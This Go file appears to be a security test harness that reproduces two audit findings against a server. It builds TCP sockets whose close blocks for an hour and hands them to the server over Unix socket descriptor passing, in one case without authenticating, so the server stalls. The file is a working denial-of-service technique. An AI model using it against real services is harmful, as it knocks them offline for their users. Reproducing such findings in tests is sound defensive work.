package main

import (
	"context"
	"errors"
	"net"
	"time"

	"golang.org/x/sys/unix"

	"github.com/weftnet/weft/test/netns"
)

// lingering makes a TCP socket whose close takes an hour, because its peer stays open and never reads.
func lingering(t target) (fd int, err error) {
	err = netns.Do(t.Netns, func() error {
		listener, err := net.ListenTCP("tcp4", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			return err
		}
		raw, err := listener.SyscallConn()
		if err != nil {
			return err
		}
		_ = raw.Control(func(fd uintptr) { _ = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 1) })
		defer listener.Close()
		if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0); err != nil {
			return err
		}
		address := &unix.SockaddrInet4{Port: listener.Addr().(*net.TCPAddr).Port, Addr: [4]byte{127, 0, 0, 1}}
		err = errors.Join(
			unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 4096),
			unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 3600}),
			unix.Connect(fd, address), unix.SetNonblock(fd, true))
		if err != nil {
			return err
		}
		other, err := listener.AcceptTCP()
		if err != nil {
			return err
		}
		kept = append(kept, other)
		for stuck := 0; stuck < 3; { // the kernel may free space of the send buffer a moment later
			n, _ := unix.Write(fd, make([]byte, 1<<16))
			if stuck++; n > 0 {
				stuck = 0
			}
			<-time.After(time.Millisecond)
		}
		return unix.SetNonblock(fd, false)
	})
	return fd, err
}

// leaveTo passes a descriptor to the server such that the server has the last reference: the descriptor is in the queue
// of a socket of which the attacker holds the only descriptor until then.
func (c *client) leaveTo(fd int) error {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return errors.Join(err, unix.Close(fd))
	}
	err = unix.Sendmsg(pair[0], []byte{0}, unix.UnixRights(fd), nil, 0)
	_ = unix.Close(fd)
	_ = unix.Close(pair[0])
	err = errors.Join(err, c.send(ackMessage, pair[1], nil))
	go unix.Close(pair[1]) // blocks if the server has closed its reference already
	return err
}

// kept are the peers of lingering sockets; they are never read.
var kept []*net.TCPConn

// lingeringDescriptors: finding 1a. A connected client passes descriptors whose close blocks, in unexpected messages.
func lingeringDescriptors(ctx context.Context, j job) error {
	return repeat(ctx, j.underWay, func() error {
		return whileConnected(j.target, modest, func(c *client) error {
			fd, err := lingering(j.target)
			if err != nil {
				return err
			}
			return c.leaveTo(fd)
		})
	})
}

// manyLingeringDescriptors: finding 1b. Clients without the secret queue such descriptors behind a bad first message.
func manyLingeringDescriptors(ctx context.Context, j job) error {
	return repeat(ctx, j.underWay, func() error {
		c, err := dial(j.target)
		if err != nil {
			return err
		}
		defer c.leave()
		fd, err := lingering(j.target)
		if err != nil {
			return err
		}
		return errors.Join(c.send(connectMessage, -1, nil), c.leaveTo(fd))
	})
}
